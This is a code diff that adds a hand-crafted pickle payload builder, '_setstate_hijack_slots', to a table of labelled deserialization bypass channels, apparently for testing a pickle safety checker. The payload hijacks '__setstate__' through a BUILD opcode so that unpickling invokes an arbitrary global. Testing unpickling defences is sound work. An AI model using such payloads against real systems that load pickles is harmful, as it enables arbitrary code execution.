@@ -64,6 +64,12 @@ def _setstate_hijack(t: tuple[str, str]) -> bytes:  # A2-09: BUILD {'__setstate_
     return (b"\x80\x04" + ns + b"}" + s("__setstate__") + g(*t) + b"sb" + s(MARKER) + b"b.")
 
 
+def _setstate_hijack_slots(t: tuple[str, str]) -> bytes:  # A2-09 via BUILD (None, {...})
+    ns = g("types", "SimpleNamespace") + b")\x81"
+    return (b"\x80\x04" + ns + b"N}" + s("__setstate__") + g(*t) + b"s\x86b" + s(MARKER)
+            + b"b.")
+
+
 def _map_newobj(t: tuple[str, str]) -> bytes:  # A2-11: list(map.__new__(map, T, [arg]))
     return (b"\x80\x04" + g("builtins", "list") + g("builtins", "map") + g(*t) + b"]"
             + s(MARKER) + b"a\x86\x81\x85R.")
@@ -80,8 +86,10 @@ def _partial_copyreg_newobj_ex(t: tuple[str, str]) -> bytes:  # __newobj_ex__(pa
 
 
 CHANNELS = {"copyreg-newobj": _partial_copyreg_newobj,
-            "copyreg-newobj-ex": _partial_copyreg_newobj_ex, "A2-01a": _partial_newobj, "A2-01d": _partial_partial, "A2-01c": _partial_state_swap,
-            "A2-02": _generator_ctor, "A2-09": _setstate_hijack, "A2-11": _map_newobj}
+            "copyreg-newobj-ex": _partial_copyreg_newobj_ex, "A2-01a": _partial_newobj,
+            "A2-01d": _partial_partial, "A2-01c": _partial_state_swap,
+            "A2-02": _generator_ctor, "A2-09": _setstate_hijack,
+            "A2-09-slots": _setstate_hijack_slots, "A2-11": _map_newobj}
 
 
 def _uses(data: bytes, qualname: str) -> set[str]:
